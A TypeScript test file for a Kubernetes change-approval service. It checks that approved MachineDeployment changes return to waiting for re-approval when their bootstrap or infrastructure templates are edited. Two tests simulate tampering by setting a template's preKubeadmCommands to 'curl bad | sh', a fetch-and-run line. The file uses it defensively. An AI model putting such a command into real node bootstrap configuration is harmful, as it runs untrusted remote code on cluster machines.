import { expect, test } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { isObject, valueAt } from '@/lib/domain/changes'
import type { JsonObject } from '@/lib/domain/json'
import { HELD } from '@/lib/domain/latch/names'
import { KubeError } from '@/lib/kubernetes/types'
import { approveChange } from '@/lib/services/changes/approve-change'
import { pauseChange } from '@/lib/services/changes/pause-change'
import { configEdited } from '@/lib/services/changes/config-edited'
import { kubeClientFor } from '@/lib/services/clusters/connection'
import { pauseCluster } from '@/testenv/bootstrap-template'
import { as, latchedCluster } from '@/testenv/deciding'
import { heldChange, MD } from '@/testenv/held'
import { planningContext } from '@/testenv/planning'
import { planGroup } from './plan-group'
import { holdToTimes } from './times'

useTestDatabase()
const at = latchedCluster()
const TEMPLATES = { group: 'bootstrap.cluster.x-k8s.io', version: 'v1beta2', plural: 'kubeadmconfigtemplates' }

test.each(['what differs', 'what does not', 'what differs, and its hold is refused', 'nothing: the old one is gone'])(
  'let go, and its template edited since, it is held again and waits for somebody (in %s)',
  async (where) => {
    const gone = where.startsWith('nothing')
    const refused = where.endsWith('refused')
    const inWhatDiffers = gone || where.startsWith('what differs')
    const held = await heldChange(at.cluster, at.clusterId, 'MachineDeployment', 8)
    await db().group.update({ where: { id: held.change.groupId }, data: { governed: true } })
    const { namespace, name, kind } = held
    const planned = async () => planGroup(await planningContext(at.clusterId), { ...(await held.read()), kind })
    const ref = valueAt((await held.read()).spec, 'template', 'spec', 'bootstrap', 'configRef')
    if (!isObject(ref)) throw new Error('no bootstrap config')
    const { admin } = at.cluster
    // No machine is in a move while this test looks.
    await pauseCluster(admin, held)
    const template = await admin.get(TEMPLATES, String(ref.name), namespace)
    const says = (command: string): JsonObject => ({
      template: {
        spec: { ...(valueAt(template.spec, 'template', 'spec') as JsonObject), preKubeadmCommands: [command] },
      },
    })
    if (inWhatDiffers) {
      const next = { ...template, metadata: { name: 'next', namespace }, spec: says('echo one') }
      await admin.create(TEMPLATES, next as never, namespace)
      const spec = { template: { spec: { bootstrap: { configRef: { name: 'next' } } } } }
      await admin.patch(MD, name, namespace, 'merge', { spec })
    }
    await planned()
    const open = () =>
      db().change.findFirstOrThrow({ where: { groupId: held.change.groupId }, orderBy: { detectedAt: 'desc' } })
    const { id: changeId, fingerprint } = await open()
    await approveChange(as('approver'), { changeId, fingerprint, mode: 'replace' })
    await planned()
    expect((await open()).state).toBe('running')
    const edited = inWhatDiffers ? 'next' : String(ref.name)
    if (gone) await admin.delete(TEMPLATES, String(ref.name), namespace)
    else await admin.patch(TEMPLATES, edited, namespace, 'merge', { spec: says('curl bad | sh') })
    const client = await kubeClientFor(at.clusterId)
    const { patch } = client
    const no = new KubeError(403, { kind: 'Status', code: 403, message: 'no' }, 'PATCH')
    if (refused) client.patch = () => Promise.reject(no)
    for (let look = 0; look < 4; look++) {
      await planned().finally(() => look === 3 && (client.patch = patch))
      if (gone) await holdToTimes((await planningContext(at.clusterId)).view)
    }
    const { id } = await open()
    // It goes unapproved, and that is on record: somebody is told, and it is tried again.
    if (refused) {
      expect(await db().auditEvent.count({ where: { targetId: id, action: 'change.not-held' } })).toBe(1)
      return
    }
    const { annotations = {} } = (await held.read()).metadata
    expect([HELD in annotations, (await open()).state]).toEqual(gone ? [false, 'running'] : [true, 'waiting'])
    // It is told otherwise, and goes on as it was approved.
    if (gone)
      expect(await db().decision.findMany({ where: { changeId: id } })).toMatchObject([
        { mode: 'replace', state: 'seen' },
      ])
    // Whoever is to approve it is told where; what is of what differs is shown.
    const told = (await configEdited([id]))[id]?.objects
    expect(told).toEqual(where === 'what does not' ? [`KubeadmConfigTemplate ${edited}`] : undefined)
    // Approved anew, and kept for its time.
    await db().change.update({ where: { id }, data: { dueMode: 'replace' } })
    expect(await configEdited([id])).toEqual({})
  },
)

test.each([
  ['infrastructure.cluster.x-k8s.io', 'devmachinetemplates', ['infrastructureRef']],
  ['bootstrap.cluster.x-k8s.io', 'kubeadmconfigtemplates', ['bootstrap', 'configRef']],
])(
  'let go, and what machines get as annotations from a template of %s edited since, it is held again',
  async (apiGroup, plural, path) => {
    const held = await heldChange(at.cluster, at.clusterId, 'MachineDeployment', 8)
    await db().group.update({ where: { id: held.change.groupId }, data: { governed: true } })
    const { namespace, kind } = held
    const planned = async () => planGroup(await planningContext(at.clusterId), { ...(await held.read()), kind })
    const { admin } = at.cluster
    await pauseCluster(admin, held)
    await planned()
    const newest = { where: { groupId: held.change.groupId }, orderBy: { detectedAt: 'desc' as const } }
    const { id: changeId, fingerprint } = await db().change.findFirstOrThrow(newest)
    await approveChange(as('approver'), { changeId, fingerprint, mode: 'replace' })
    await planned()
    const ref = valueAt((await held.read()).spec, 'template', 'spec', ...path)
    if (!isObject(ref)) throw new Error('no template')
    const spec = { template: { metadata: { annotations: { 'host.sandbox/never-joins': 'true' } } } }
    await admin.patch({ group: apiGroup, version: 'v1beta2', plural }, String(ref.name), namespace, 'merge', { spec })
    for (let look = 0; look < 4; look++) await planned()
    expect((await db().change.findFirstOrThrow(newest)).state).toBe('waiting')
    expect(HELD in ((await held.read()).metadata.annotations ?? {})).toBe(true)
    expect((await configEdited([changeId]))[changeId]?.objects).toEqual([`${String(ref.kind)} ${String(ref.name)}`])
  },
)

test('paused, and its template edited before that is seen: it is for somebody again at once, and not when the pause ends', async () => {
  const held = await heldChange(at.cluster, at.clusterId, 'MachineDeployment', 8)
  await db().group.update({ where: { id: held.change.groupId }, data: { governed: true } })
  const { namespace, kind } = held
  const planned = async () => planGroup(await planningContext(at.clusterId), { ...(await held.read()), kind })
  const ref = valueAt((await held.read()).spec, 'template', 'spec', 'bootstrap', 'configRef')
  if (!isObject(ref)) throw new Error('no bootstrap config')
  await planned()
  const { id: changeId, fingerprint } = await db().change.findFirstOrThrow({
    ...{ where: { groupId: held.change.groupId }, orderBy: { detectedAt: 'desc' } },
  })
  await approveChange(as('approver'), { changeId, fingerprint, mode: 'replace' })
  await planned()
  await pauseChange(as('approver'), { changeId, reason: 'wait' })
  const spec = { template: { spec: { preKubeadmCommands: ['curl bad | sh'] } } }
  await at.cluster.admin.patch(TEMPLATES, String(ref.name), namespace, 'merge', { spec })
  await holdToTimes((await planningContext(at.clusterId)).view)
  for (let i = 0; i < 3; i++) await planned()
  expect(await db().change.findUniqueOrThrow({ where: { id: changeId } })).toMatchObject({
    state: 'waiting',
    dueMode: null,
  })
})
